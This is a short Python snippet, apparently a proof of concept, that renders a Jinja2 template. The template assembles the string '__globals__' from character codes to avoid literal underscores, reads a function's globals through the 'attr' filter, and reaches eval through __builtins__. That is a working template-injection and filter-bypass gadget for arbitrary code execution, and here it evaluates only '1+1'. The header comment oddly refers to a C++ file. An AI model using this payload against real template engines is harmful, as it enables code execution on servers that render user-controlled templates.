# template_text.cc hasPlainArguments: map('attr', name=k): the first text is the filter attr, and k names any attribute, computed in the template
import jinja2
def f(): pass
t = jinja2.Template("{% set k = '%c%cglobals%c%c'|format(95,95,95,95) %}{{ keep([f]|map('attr', name=k)|first) }}")
kept = []
t.render(f=f, keep=kept.append)
print(kept[0]["__builtins__"].eval("1+1"))
